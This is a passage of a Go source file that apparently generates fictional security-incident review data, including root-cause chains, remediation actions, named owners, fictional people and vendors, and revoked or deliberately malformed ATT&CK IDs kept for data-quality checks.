		pFail:    0.3,
	},
	"insider-misuse": {
		summaries: []string{"A trusted employee or contractor misused legitimate access.", "Access was not revoked when the person's role or employment changed."},
		chains: [][]string{
			{"The employee downloaded data they were entitled to read.", "Their role had changed but old permissions remained.", "Access reviews are yearly and rubber-stamped.", "Managers see hundreds of entitlements without context."},
			{"The contractor's account stayed active after the contract ended.", "HR did not notify IT of the end date.", "The leaver process covers employees only."},
		},
		actions:  [][2]string{{"Automate leaver deprovisioning from the HR system", "HR"}, {"Introduce quarterly access recertification with risk scoring", "IAM Team"}, {"Tune DLP rules for bulk exports and personal cloud", "Data Protection"}},
		personal: []string{"The employee took the data home."},
		pFail:    0.3,
	},
	"insecure-code": {
		summaries: []string{"A coding flaw allowed injection or broken authorization.", "User input reached a query or template without validation."},
		chains: [][]string{
			{"The search endpoint concatenated user input into SQL.", "The code predates the ORM migration.", "SAST rules for the legacy module were suppressed.", "Suppressions are not reviewed."},
			{"The API returned any object by ID without an ownership check.", "Authorization is implemented per handler.", "There is no shared authorization middleware.", "Security requirements are not part of the design review.", "AppSec reviews only happen before major releases."},
		},
		actions:  [][2]string{{"Fix the injection and add regression tests", "AppSec"}, {"Introduce shared authorization middleware", "Platform Engineering"}, {"Re-enable suppressed SAST findings and triage them", "AppSec"}, {"Add DAST scan to the release pipeline", "AppSec"}},
		personal: []string{"The developer concatenated user input into the query."},
		pFail:    0.2,
	},
	"process-gap": {
		summaries: []string{"A business process allowed a risky change without verification.", "No process covered the situation, so it was handled ad hoc."},
		chains: [][]string{
			{"Finance changed the bank details on request by email.", "The procedure does not require call-back verification.", "The procedure was written before BEC was common."},
			{"Nobody knew who had to approve the emergency change.", "The on-call rota had no security contact.", "The rota is maintained by hand.", "It was not updated after the reorganisation."},
		},
		actions:  [][2]string{{"Require call-back verification for payment detail changes", "Finance"}, {"Update the incident response plan's escalation matrix", "CISO Office"}, {"Run a tabletop exercise on the new procedure", "SOC"}},
		personal: []string{"The finance clerk changed the bank details without calling back."},
		pFail:    0.25,
	},
	"lost-or-stolen-asset": {
		summaries: []string{"A device holding company data was lost or stolen.", "Removable media with personal data left company control."},
		chains: [][]string{
			{"The laptop was stolen from a parked car.", "The user left it visible on the seat.", "Travel guidance does not mention vehicles."},
			{"The USB stick with HR data was lost.", "HR copies files to USB to work from home.", "The VPN was too slow for large spreadsheets.", "Bandwidth upgrades were deferred."},
		},
		actions:  [][2]string{{"Block USB mass storage on HR endpoints", "Endpoint Engineering"}, {"Verify BitLocker compliance in MDM weekly", "Workplace IT"}, {"Update travel security guidance", "Security Awareness"}},
		personal: []string{"The user left the laptop visible on the car seat."},
		pFail:    0.35,
	},
	"insufficient-capacity": {
		summaries: []string{"Capacity and DDoS protection were below the attack volume.", "The origin was exposed outside the DDoS protection."},
		chains: [][]string{
			{"The flood exceeded the uplink capacity.", "Scrubbing was on-demand, not always-on.", "Activation needs a call to the provider.", "The provider contact list was out of date."},
			{"The attacker hit the origin IP directly.", "The origin accepted traffic from any source.", "Firewall rules were not restricted to CDN ranges."},
		},
		actions:  [][2]string{{"Move to always-on DDoS scrubbing", "Network Engineering"}, {"Restrict origin to CDN IP ranges", "Network Engineering"}, {"Load-test the checkout at 10x peak", "SRE"}},
		personal: []string{"The network engineer did not activate scrubbing in time."},
		pFail:    0.2,
	},
}

// generalActions apply to any incident.
var generalActions = [][2]string{
	{"Update the incident response playbook with lessons from this case", "SOC"},
	{"Brief the executive committee on impact and remediation", "CISO Office"},
	{"Review logging retention for affected systems", "SOC"},
	{"Verify backups of affected systems restore within RTO", "IT Operations"},
	{"Notify affected customers and the regulator if required", "Legal"},
	{"Hold a blameless post-incident review with all teams", "Incident Manager"},
}

// generalWentWell and generalNeedsWork apply to any incident.
var (
	generalWentWell = []string{
		"Clear incident commander from the first hour",
		"The on-call escalation reached the right people quickly",
		"Evidence was preserved before remediation",
		"Status updates went out on a fixed cadence",
		"The war-room channel kept one timeline",
	}
	generalNeedsWork = []string{
		"Triage waited for business hours",
		"Asset ownership was unclear",
		"Runbook steps were out of date",
		"Too many people joined the bridge call",
		"Timeline reconstruction took longer than the fix",
	}
)

// people are fictional; some names are deliberately non-ASCII.
var people = []string{
	"Zoë Łukasz", "José Núñez", "Søren Ødegaard", "Anna Müller", "Chloé Dubois", "Björn Åkesson",
	"Çağlar Yılmaz", "Ólafur Þórsson", "Małgorzata Wiśniewska", "Priya Raman", "Kwame Mensah",
	"Liam O'Brien", "Mei Tanaka", "Dávid Szőke", "Aoife Ní Bhriain", "Jürgen Weiß", "Sara Lindqvist",
	"Tomás Ferreira", "Nadia Haddad", "Ivan Petrović", "Emily Carter", "Hiroshi Sato", "Fatima Zahra Benali",
}

// roleOwners own action items besides teams.
var roleOwners = []string{"CISO", "Incident Manager", "Head of IT", "DPO", "Service Owner", "SOC Lead"}

var (
	departments = []string{"Finance", "HR", "Sales", "Engineering", "Legal", "Customer Support", "Marketing", "Procurement", "R&D", "Treasury", "Logistics"}
	sites       = []string{"Berlin", "Kraków", "Lisbon", "Dublin", "Toronto", "Singapore", "Austin", "Malmö", "Zürich", "São Paulo"}
	apps        = []string{"customer portal", "billing API", "partner extranet", "HR self-service", "webshop", "mobile backend", "status page"}
	vendors     = []string{"Northwind Payroll", "Contoso MSP", "Fabrikam CRM", "Tailspin Logistics", "Woodgrove HR", "Litware Build Tools"}
	countries   = []string{"Brazil", "Vietnam", "the Netherlands", "Romania", "the United States", "Nigeria", "India"}
	hostPrefix  = []string{"FS", "WS", "SRV", "DC", "SQL", "WEB", "ESX", "LT", "VDI", "BLD"}
	buckets     = []string{"acme-exports-prod", "crm-backup-2023", "data-lake-raw", "marketing-assets", "tmp-share"}
)

// revokedIDs are technique IDs ATT&CK has revoked (with their successor):
// old case managers still emit them and data-quality checks should say so.
var revokedIDs = []string{"T1086", "T1193", "T1064", "T1192"}

// unknownIDs are well-formed but non-existent IDs, the typos seen in real
// exports (a sub-technique appended to a technique that has none, digits
// swapped).
var unknownIDs = []string{"T1190.001", "T1486.001", "T1509", "T1566.005"}

// exerciseTitles label cases that are not real incidents.
var exerciseTitles = []string{"Tabletop exercise: %s scenario", "Purple-team exercise: %s", "Red-team engagement: %s objective"}
